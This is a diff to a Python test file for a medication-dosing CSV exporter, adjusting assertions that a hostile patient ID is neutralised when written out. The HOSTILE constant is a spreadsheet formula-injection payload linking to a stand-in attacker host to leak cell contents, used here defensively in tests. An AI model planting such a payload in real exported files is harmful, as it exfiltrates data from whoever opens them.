@@ -35,6 +35,8 @@ from dosing.export.table import to_csv, write_csv_rows
 TODAY = dt.date.today()
 START = (TODAY + dt.timedelta(days=3)).isoformat()
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+#: HOSTILE as a CSV cell: a quote before the formula, and before the quote after the comma.
+SAFE_HOSTILE = '\'=HYPERLINK("http://evil.example/?x="&A1,\'"click")'
 
 MIXED = f"""\
 id,height,weight,start,choose
@@ -106,7 +108,7 @@ def test_good_rows_are_written_and_bad_rows_reported_with_their_line(tmp_path, c
     assert "3 patients" in err.splitlines()[-1]
     assert "5 rows rejected" in err.splitlines()[-1]
     written = list(dict.fromkeys(r[0] for r in _data_rows(out)))
-    assert written == ["P001", "P003", "'" + HOSTILE]
+    assert written == ["P001", "P003", SAFE_HOSTILE]
 
 
 def test_combined_row_count_is_the_sum_of_each_patients_administrations(tmp_path):
@@ -140,7 +142,7 @@ def test_hostile_id_is_neutralised_in_the_combined_csv(tmp_path):
     out = tmp_path / "all.csv"
     _run(str(patients), "--protocol", "D-KRd", "--cycles", "2", "-o", str(out))
     ids = {r[0] for r in _data_rows(out)}
-    assert "'" + HOSTILE in ids
+    assert SAFE_HOSTILE in ids
     assert not any(i.startswith(("=", "+", "-", "@")) for i in ids)
 
 
